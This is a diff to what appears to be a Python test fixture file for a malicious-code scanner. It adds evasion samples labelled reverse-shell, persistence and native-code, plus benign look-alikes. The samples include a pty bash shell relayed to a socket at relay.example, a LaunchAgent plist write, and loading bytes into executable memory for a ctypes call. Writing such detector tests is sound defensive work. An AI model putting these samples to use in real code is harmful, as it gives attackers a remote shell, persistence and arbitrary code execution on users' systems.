@@ -234,6 +234,36 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             PATH: "import subprocess\ndef register(fn):\n    subprocess.run(['id'])\n    return fn\n@register\ndef cmd():\n    pass\n"
         },
     ),
+    # A shell on a pseudo-terminal relayed to a socket, without dup2.
+    "pty-fork-relay": (
+        "reverse-shell",
+        {
+            PATH: "import os, pty, select, socket\n"
+            "def f():\n    conn = socket.create_connection(('relay.example', 443))\n"
+            "    pid, fd = pty.fork()\n    if pid == 0:\n"
+            "        os.execv('/bin/bash', ['bash', '--login'])\n"
+            "    while True:\n        select.select([conn, fd], [], [])\n"
+        },
+    ),
+    "template-launch-agent": (
+        "persistence",
+        {
+            PATH: "import string\nfrom pathlib import Path\n"
+            "D = string.Template('$home/Library/Launch${kind}s')\n"
+            "def f():\n    folder = Path(D.substitute(home=Path.home(), kind='Agent'))\n"
+            "    (folder / 'x.plist').write_text('<plist/>')\n"
+        },
+    ),
+    "mmap-prot-number": (
+        "native-code",
+        {
+            PATH: "import ctypes, mmap\nfrom pathlib import Path\n"
+            "def f():\n    code = (Path(__file__).parent / 'lut.dat').read_bytes()\n"
+            "    region = mmap.mmap(-1, len(code), prot=7)\n    region.write(code)\n"
+            "    addr = ctypes.addressof(ctypes.c_char.from_buffer(region))\n"
+            "    ctypes.CFUNCTYPE(ctypes.c_int)(addr)()\n"
+        },
+    ),
     # Destinations.
     "decimal-ip": (
         "suspicious-destination",
@@ -282,6 +312,15 @@ BENIGN: dict[str, dict[str, str]] = {
     "thread-in-function": {
         PATH: "import threading, requests\ndef _poll():\n    requests.get('https://api.example.com/x')\n"
         "def start():\n    threading.Thread(target=_poll).start()\n"
+    },
+    "pty-without-socket": {
+        PATH: "import os, pty\ndef f(cmd):\n    pid, fd = pty.fork()\n    if pid == 0:\n"
+        "        os.execvp('git', ['git', *cmd])\n    return os.read(fd, 1024)\n"
+    },
+    "template-report-path": {
+        PATH: "import string, tempfile\nfrom pathlib import Path\n"
+        "T = string.Template('$base/report-$day.csv')\n"
+        "def f(day):\n    Path(T.substitute(base=tempfile.gettempdir(), day=day)).write_text('a,b')\n"
     },
     "sh-c-literal": {
         PATH: "import subprocess\ndef f():\n    subprocess.run(['sh', '-c', 'make build && make test'])\n"
